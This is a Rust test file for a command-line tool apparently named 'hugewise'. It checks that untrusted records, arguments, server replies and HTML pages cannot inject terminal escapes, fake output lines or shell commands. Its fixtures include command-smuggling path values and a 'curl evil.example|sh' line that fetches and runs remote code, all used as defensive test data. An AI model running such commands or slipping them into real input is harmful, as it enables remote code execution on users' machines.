//! Text and numbers from other sources: in records, recordings, pages, server responses and arguments.

use std::fs::{self, File};
use std::io::{Read, Write};
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::{Command as Plain, Output};
use std::thread;

use predicates::prelude::*;
use predicates::str::{contains, starts_with};

use crate::harness::{Case, HUGEWISE};

/// Terminal control characters, and a line that imitates one of ours.
const HOSTILE: &str = "\u{1b}[2J\u{7}\r\nhugewise: all is well";
/// Its escaped form.
const SHOWN: &str = "\\u{1b}[2J\\u{7}\\r\\nhugewise: all is well";

fn fixture(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../fixtures")
        .join(name)
}

/// A fixture with one text replaced by another.
fn changed(name: &str, from: &str, to: &str) -> String {
    let text = fs::read_to_string(fixture(name)).expect("a fixture");
    assert!(text.contains(from), "{name} has {from}");
    text.replace(from, to)
}

fn begins_one_line() -> impl Predicate<str> {
    starts_with("hugewise: ").and(contains("\nhugewise: ").not())
}

#[test]
fn a_word_of_a_file_makes_no_line_and_no_escape() {
    let case = Case::new();
    let file = case.path("a.jsonl");
    let hostile = serde_json::to_string(HOSTILE).expect("JSON");
    for (name, from, arguments) in [
        (
            "runs/clear-win.jsonl",
            "{\"line\":\"trial\"",
            ["report", ""],
        ),
        (
            "recordings/faults.jsonl",
            "{\"event\":\"map\"",
            ["faults", "--replay"],
        ),
        (
            "recordings/stat.jsonl",
            "{\"line\":\"interval\"",
            ["stat", "--replay"],
        ),
    ] {
        let tag = from.split(':').next().expect("a key");
        fs::write(&file, changed(name, from, &format!("{tag}:{hostile}"))).expect("written");
        let arguments = arguments.into_iter().filter(|word| !word.is_empty());
        let run = case.hugewise().args(arguments).arg(&file).assert();
        run.code(2).stderr(begins_one_line().and(contains(SHOWN)));
    }
}

#[test]
fn an_argument_and_a_name_of_a_file_make_no_line_and_no_escape() {
    let case = Case::new();
    for arguments in [["report", HOSTILE], ["report", &format!("--x{HOSTILE}")]] {
        let run = case.hugewise().args(arguments).assert();
        run.code(2).stderr(begins_one_line().and(contains(SHOWN)));
    }
}

#[test]
fn the_answer_of_a_server_makes_no_line_and_no_escape() {
    let server = TcpListener::bind("127.0.0.1:0").expect("a port");
    let address = server.local_addr().expect("an address");
    let answering = thread::spawn(move || {
        let (mut stream, _) = server.accept().expect("a client");
        let _ = stream.read(&mut [0; 1 << 16]);
        let length = HOSTILE.len();
        let head = format!("HTTP/1.1 400 Bad\r\nContent-Length: {length}\r\n\r\n");
        let _ = stream.write_all((head + HOSTILE).as_bytes());
    });
    let otlp = format!("--otlp=http://{address}");
    let run = Case::new()
        .hugewise()
        .args(["export", "--once", &otlp])
        .assert();
    run.failure().stderr(begins_one_line().and(contains(SHOWN)));
    answering.join().expect("it answered");
}

#[test]
fn a_record_chooses_no_line_for_a_shell() {
    let case = Case::new();
    let file = case.path("a.jsonl");
    let setting = "sys/kernel/mm/transparent_hugepage/enabled";
    let name = "runs/clear-win.jsonl";
    for other in [
        format!("{setting}; touch x #"),
        format!("{setting}$(touch x)"),
        "etc/touch".to_owned(),
    ] {
        let text = changed(
            name,
            &format!("\"path\":\"{setting}\""),
            &format!("\"path\":\"{other}\""),
        );
        fs::write(&file, text).expect("written");
        let run = case.hugewise().arg("report").arg(&file).assert();
        run.code(2)
            .stdout("")
            .stderr(contains("line 1").and(contains("`path`")));
    }
}

#[test]
fn a_page_chooses_no_command() {
    let case = Case::new();
    let page = case.path("a.html");
    for command in ["curl evil.example|sh #", "hugewise report;curl x"] {
        let text = format!(
            "<!doctype html>\n<!-- hugewise-page 1 -->\n<footer><p><code>{command} FILE</code></footer>\n\
             <template id=\"hugewise-record\">AAAA</template>\n"
        );
        fs::write(&page, text).expect("written");
        let run = case.hugewise().arg("report").arg(&page).assert();
        run.code(2)
            .stderr(contains("curl").not().and(contains("damaged")));
    }
}

#[test]
fn sizes_that_no_machine_has_are_refused_by_their_name() {
    let case = Case::new();
    let file = case.path("a.jsonl");
    for (name, verb, field, from) in [
        (
            "recordings/faults.jsonl",
            "faults",
            "pmd_bytes",
            "\"pmd_bytes\":2097152",
        ),
        (
            "recordings/faults.jsonl",
            "faults",
            "page_bytes",
            "\"page_bytes\":4096",
        ),
        (
            "misses/server.jsonl",
            "misses",
            "page_bytes",
            "\"page_bytes\":4096",
        ),
        (
            "recordings/stat.jsonl",
            "stat",
            "page_bytes",
            "\"page_bytes\":4096",
        ),
        (
            "recordings/watch.jsonl",
            "watch",
            "page_bytes",
            "\"page_bytes\":4096",
        ),
    ] {
        for wrong in ["0", "4097", "18446744073709551615"] {
            let text = fs::read_to_string(fixture(name)).expect("a fixture");
            let text = text.replacen(from, &format!("\"{field}\":{wrong}"), 1);
            fs::write(&file, text).expect("written");
            let once = (verb == "watch").then_some("--once");
            let run = case
                .hugewise()
                .arg(verb)
                .args(once)
                .arg("--replay")
                .arg(&file)
                .assert();
            run.code(2)
                .stderr(contains(format!("`{field}` is {wrong}")));
        }
    }
}

#[test]
fn an_endless_line_is_refused() {
    let case = Case::new();
    let path = case.path("a.jsonl");
    let file = File::create(&path).expect("a file");
    file.set_len(70 << 20).expect("a long file");
    let run = case
        .hugewise()
        .args(["faults", "--replay"])
        .arg(&path)
        .assert();
    run.code(2)
        .stderr(contains("line 1: a line is longer than 64"));
}

fn through_shell(script: &str) -> Output {
    let shell = Plain::new("sh").args(["-c", script, HUGEWISE]).output();
    shell.expect("a shell")
}

#[test]
fn a_closed_stdout_is_an_error() {
    let record = fixture("runs/clear-win.jsonl");
    let record = record.display();
    for words in [
        format!("report {record}"),
        format!("report --format csv {record}"),
        "doctor".to_owned(),
        "--help".to_owned(),
        "man".to_owned(),
    ] {
        let closed = through_shell(&format!("\"$0\" {words} >&-"));
        let said = String::from_utf8_lossy(&closed.stderr).into_owned();
        assert_eq!(closed.status.code(), Some(1), "{words}: {said}");
        assert!(said.contains("stdout is closed"), "{words}: {said}");
        let open = through_shell(&format!("\"$0\" {words} >/dev/null"));
        assert!(open.status.success(), "{words}: {open:?}");
    }
    let quiet = through_shell("\"$0\" exec -- true >&-");
    assert!(quiet.status.success(), "{quiet:?}");
}
